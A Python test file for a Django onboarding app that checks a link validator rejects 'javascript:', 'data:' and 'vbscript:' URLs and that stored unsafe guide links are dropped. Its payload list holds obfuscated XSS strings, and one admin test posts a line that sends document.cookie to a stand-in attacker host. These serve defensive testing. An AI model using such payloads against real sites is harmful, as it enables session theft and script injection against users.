"""Issue 14, finding 12: onboarding guide links accepted ``javascript:`` URLs
(only the Content-Security-Policy stopped them running on click)."""

import importlib

import pytest
from django.apps import apps as django_apps
from django.core.exceptions import ValidationError

from core.validators import validate_link
from onboarding.models import OnboardingStep, PlanStep
from onboarding.services import onboarding_start
from tests.faq.factories import ArticleFactory
from tests.onboarding.factories import PlanFactory, PlanStepFactory

pytestmark = pytest.mark.django_db

UNSAFE = [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/faq/",
    "/\\evil.example",
    "ftp://files.example/guide.pdf",
]
SAFE = ["/faq/going-live/", "https://help.example/live?x=1", "http://intranet.example"]


@pytest.mark.parametrize("url", UNSAFE)
def test_unsafe_links_are_refused(url):
    with pytest.raises(ValidationError):
        validate_link(url)


@pytest.mark.parametrize("url", SAFE + [""])
def test_hub_paths_and_web_addresses_are_accepted(url):
    validate_link(url)


def test_a_manager_cannot_save_a_javascript_guide_link_in_the_admin(client_as, manager):
    plan = PlanFactory(name="Standard")
    response = client_as(manager).post(
        f"/admin/onboarding/onboardingplan/{plan.pk}/change/",
        {
            "name": "Standard",
            "is_default": "on",
            "steps-TOTAL_FORMS": "1",
            "steps-INITIAL_FORMS": "0",
            "steps-0-order": "1",
            "steps-0-title": "Read the guide",
            "steps-0-owner_side": "network",
            "steps-0-due_offset_days": "7",
            "steps-0-guide_url": "javascript:fetch('//evil.example?'+document.cookie)",
        },
    )
    assert response.status_code == 200  # the form again, with the error
    assert "Use a path on the hub" in response.content.decode()
    assert not PlanStep.objects.exists()


def test_an_unsafe_link_saved_earlier_is_neither_copied_nor_rendered(
    client_as, member_a, network_a
):
    ArticleFactory(slug="going-live")  # a missing article's link is hidden (issue 17)
    plan = PlanFactory()
    PlanStepFactory(plan=plan, title="Old step", guide_url="javascript:alert(1)")
    PlanStepFactory(plan=plan, title="Good step", guide_url="/faq/going-live/")
    onboarding_start(network=network_a, plan=plan)
    links = dict(OnboardingStep.objects.values_list("title", "guide_url"))
    assert links == {"Old step": "", "Good step": "/faq/going-live/"}
    page = client_as(member_a).get(f"/onboarding/{network_a.slug}/").content.decode()
    assert "javascript:" not in page and 'href="/faq/going-live/"' in page


def test_the_migration_drops_unsafe_links_already_stored(network_a):
    plan = PlanFactory()
    bad = PlanStepFactory(plan=plan, guide_url="javascript:alert(1)")
    good = PlanStepFactory(plan=plan, guide_url="https://help.example/")
    migration = importlib.import_module(
        "onboarding.migrations.0002_guide_links_safe_schemes"
    )
    migration.clear_unsafe_links(django_apps, None)
    bad.refresh_from_db()
    good.refresh_from_db()
    assert (bad.guide_url, good.guide_url) == ("", "https://help.example/")
